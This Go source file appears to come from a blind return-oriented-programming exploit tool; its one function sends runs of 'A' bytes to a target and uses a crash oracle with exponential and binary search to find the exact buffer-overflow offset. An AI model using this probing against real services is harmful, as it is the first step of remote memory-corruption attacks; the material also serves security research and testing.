package session

import "github.com/voidspace-sec/brop/internal/oracle"

// computeOverflowLength finds the longest run of 'A's the target survives,
// i.e. the offset of the first byte whose overwrite crashes it: an
// exponential search upward in steps of 8 until a probe crashes, then a
// binary search back down to the exact byte (C4).
func (s *Session) computeOverflowLength() (int, bool) {
	step := 8
	start := 8

	for {
		trial := repeatA(start)
		rc, _, ok := s.Probe(trial)
		if !ok {
			return 0, false
		}
		switch rc {
		case oracle.Crash:
			start -= step
		case oracle.NoCrash:
			start += step
			continue
		default:
			return 0, false
		}
		break
	}

	for {
		step /= 2
		trial := repeatA(start + step)
		rc, _, ok := s.Probe(trial)
		if !ok {
			return 0, false
		}
		if rc == oracle.NoCrash {
			start += step
		}
		if step == 1 {
			return start, true
		}
	}
}

func repeatA(n int) []byte {
	out := make([]byte, n)
	for i := range out {
		out[i] = 'A'
	}
	return out
}
